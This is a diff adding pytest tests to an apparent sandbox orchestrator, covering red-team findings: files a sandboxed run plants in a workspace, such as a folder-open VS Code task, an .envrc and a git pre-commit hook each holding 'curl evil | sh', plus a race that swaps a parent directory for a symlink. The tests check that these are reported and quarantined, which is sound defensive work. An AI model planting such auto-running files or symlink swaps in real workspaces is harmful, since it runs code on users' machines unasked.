@@ -330,3 +330,91 @@ def test_doctor_recommends_explicit_bare_repositories_until_the_user_sets_it(hom
     assert "git config --global safe.bareRepository explicit" in line
     (home / ".gitconfig").write_text("[safe]\n\tbareRepository = explicit\n")
     assert advice(environ) == ()
+
+
+# --- red-team findings: nested host-tool files, nested hooksPath, a swapped parent -----
+
+
+def test_a_host_tool_file_planted_in_a_subdirectory_is_reported_and_quarantined(
+    workspace: Path,
+) -> None:
+    (workspace / "sub").mkdir()
+    before = planted.snapshot(str(workspace))
+    (workspace / "sub" / ".vscode").mkdir()
+    (workspace / "sub" / ".vscode" / "tasks.json").write_text('{"runOn": "folderOpen"}')
+    (workspace / "sub" / ".envrc").write_text("curl evil | sh\n")
+    findings, _ = planted.check(before, quarantine_id="r9")
+    assert sorted(f.where for f in findings) == ["sub/.envrc", "sub/.vscode"]
+    assert all(f.kind == "hostfile" and f.new and f.moved for f in findings)
+    assert "runs or trusts" in findings[0].text()
+    assert not (workspace / "sub" / ".envrc").exists()
+    assert (workspace / "sub" / f".envrc{planted.QUARANTINE}r9").exists()
+
+
+def test_an_unchanged_host_tool_file_in_a_subdirectory_is_not_reported(workspace: Path) -> None:
+    (workspace / "sub" / ".vscode").mkdir(parents=True)
+    (workspace / "sub" / ".vscode" / "settings.json").write_text("{}")
+    before = planted.snapshot(str(workspace))
+    assert planted.check(before)[0] == []
+
+
+def test_a_hook_written_where_a_nested_repository_s_hooks_path_points_is_reported(
+    workspace: Path,
+) -> None:
+    """A husky setup in a subproject: core.hooksPath = .husky in proj/.git/config."""
+    git("init", "-q", "proj", cwd=workspace)
+    git("config", "core.hooksPath", ".husky", cwd=workspace / "proj")
+    (workspace / "proj" / ".husky").mkdir()
+    before = planted.snapshot(str(workspace))
+    (workspace / "proj" / ".husky" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    findings, _ = planted.check(before, quarantine_id="r8")
+    (finding,) = [f for f in findings if f.kind != "hostfile"]
+    assert "proj/.husky/pre-commit" in finding.hooks
+    assert not (workspace / "proj" / ".husky" / "pre-commit").exists()
+
+
+def test_the_check_after_a_parent_is_swapped_for_a_link_acts_on_the_pinned_workspace(
+    base_env: dict[str, str], tmp_path: Path, codex_home: Path, write_profile: object
+) -> None:
+    """A concurrent sandbox swaps W/sub (the victim workspace's parent) with a link to
+    another project during the run: quarantine must not rename that project's repo."""
+    import ctypes
+
+    from orchestrator.backends.base import Selection
+    from orchestrator.runner import Prepared, Runner, RunRequest
+    from orchestrator.spec import RunResult
+
+    write_profile("strict", "extends: workspace\nfilesystem:\n  on_planted_repo: quarantine\n")  # type: ignore[operator]
+    (tmp_path / "W" / "sub" / "ws").mkdir(parents=True)
+    (tmp_path / "outside" / "ws").mkdir(parents=True)
+    git("init", "-q", "proj", cwd=tmp_path / "outside" / "ws")
+    (tmp_path / "W" / "lnk").symlink_to(tmp_path / "outside")
+    victim = tmp_path / "W" / "sub" / "ws"
+
+    class Swapping:
+        name = "stub"
+
+        def run(self, spec: object, **_: object) -> RunResult:
+            bare_layout(victim / "evil")  # what the run itself planted
+            libc = ctypes.CDLL(None, use_errno=True)
+            a, b = bytes(tmp_path / "W" / "sub"), bytes(tmp_path / "W" / "lnk")
+            assert libc.renameat2(-100, a, -100, b, 2) == 0
+            return RunResult(exit_code=0, backend=self.name, duration_s=0.0)
+
+    runner = Runner(
+        RunRequest(argv=("true",), environ=base_env, cwd=str(victim), profile="strict")
+    )
+    resolution, spec = runner.compile()
+    backend = Swapping()
+    outcome = runner.run(
+        Prepared(
+            resolution=resolution,
+            spec=spec,
+            backend=backend,  # type: ignore[arg-type]
+            selection=Selection(backend, "stub"),  # type: ignore[arg-type]
+        )
+    )
+    outside_git = tmp_path / "outside" / "ws" / "proj" / ".git"
+    assert (outside_git / "HEAD").exists() and (outside_git / "config").exists()
+    assert any("evil" in w and "quarantined" in w for w in outcome.warnings)
+    assert not (tmp_path / "W" / "lnk" / "ws" / "evil" / "config").exists()  # the real one
